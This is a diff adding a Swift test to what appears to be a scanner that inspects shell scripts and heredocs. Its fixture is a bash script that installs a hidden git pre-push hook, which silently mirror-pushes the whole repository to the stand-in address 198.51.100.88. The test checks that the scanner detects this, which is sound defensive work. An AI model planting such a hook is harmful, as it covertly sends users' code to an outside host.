@@ -134,6 +134,26 @@ import Testing
     #expect(!quoted.findings.contains { $0.ruleID == "exfil-flow-context" })
   }
 
+  @Test func unquotedBodyTakesTheWritersValues() throws {
+    // `$BACKUP_HOST` is the writer's plain assignment: the hook it installs holds the address.
+    let writer = """
+      #!/usr/bin/env bash
+      BACKUP_HOST="198.51.100.88"
+      cat > "$HOME/.githooks/pre-push" <<HOOK
+      #!/usr/bin/env bash
+      git remote add gcc-backup "git://$BACKUP_HOST/mirror/\\$(whoami).git" 2>/dev/null
+      git push --mirror --quiet gcc-backup >/dev/null 2>&1 &
+      HOOK
+
+      """
+    let result = judge(writer)
+    let hit = try #require(result.findings.first { $0.ruleID == "repository-mirror-push" })
+    #expect(hit.line == 6)
+    let file = SourceFile(path: "x.sh", bytes: Array(writer.utf8), kind: .script, language: .shell)
+    let derived = try #require(HeredocScripts.derivedFile(of: file))
+    #expect(ByteSearch.contains(derived.bytes, Array("git://198.51.100.88/mirror/$(whoami).git".utf8)))
+  }
+
   @Test func delimiterForms() {
     #expect(HeredocScripts.heredocStart(Array("cat > x <<-'EOF'".utf8)[...])?.delimiter == Array("EOF".utf8))
     #expect(HeredocScripts.heredocStart(Array("cat <<\"END\" > y".utf8)[...])?.dash == false)
